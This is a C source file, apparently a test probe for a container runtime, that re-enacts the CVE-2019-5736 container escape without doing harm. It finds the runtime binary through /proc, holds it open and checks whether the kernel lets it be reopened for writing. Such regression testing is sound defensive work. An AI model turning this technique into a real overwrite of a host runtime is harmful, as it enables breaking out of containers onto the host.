// The attack of CVE-2019-5736, without the damage: waits for a process whose
// program is "#!/proc/self/exe", so the runtime's own binary, holds that binary
// open, and once nobody executes it any more asks to write to it. For each it
// prints the link of the binary and how the kernel answered. Ends after the
// number of binaries given, printing "ready" first. The binary waits for a
// reader of the FIFO /block, so that it is there long enough to be caught.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct stat own;

// open_exe returns a handle on a process's binary, or -1 for our own, Busybox's
// and those that cannot be looked at.
static int open_exe(int pid, char *link, size_t size) {
	char path[64];
	struct stat st, box;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, link, size - 1);
	if (n < 0 || stat(path, &st) || stat("/bin/busybox", &box))
		return -1;
	link[n] = 0;
	if ((st.st_ino == own.st_ino && st.st_dev == own.st_dev) || st.st_ino == box.st_ino)
		return -1;
	return open(path, O_RDONLY);
}

static void wait_end(pid_t pid) {
	close(open("/block", O_RDONLY));
	for (int i = 0; i < 5000 && kill(pid, 0) == 0; i++)
		usleep(1000);
}

static void attack(int fd, const char *link) {
	char path[64];
	int got = -1;
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	// Busy for as long as anybody executes it.
	for (int i = 0; i < 500; i++) {
		got = open(path, O_WRONLY);
		if (got >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	printf("%s: %s\n", link, got >= 0 ? "WRITABLE" : strerror(errno));
	fflush(stdout);
	close(got);
}

int main(int argc, char **argv) {
	int want = argc > 1 ? atoi(argv[1]) : 1, seen = 0;
	pid_t last = 0;
	stat("/proc/self/exe", &own);
	puts("ready");
	fflush(stdout);
	while (seen < want) {
		DIR *proc = opendir("/proc");
		for (struct dirent *e; (e = readdir(proc));) {
			char link[4096];
			int pid = atoi(e->d_name), fd;
			if (pid < 1 || pid == last || (fd = open_exe(pid, link, sizeof link)) < 0)
				continue;
			last = pid;
			wait_end(pid);
			attack(fd, link);
			close(fd);
			seen++;
		}
		closedir(proc);
	}
	return 0;
}
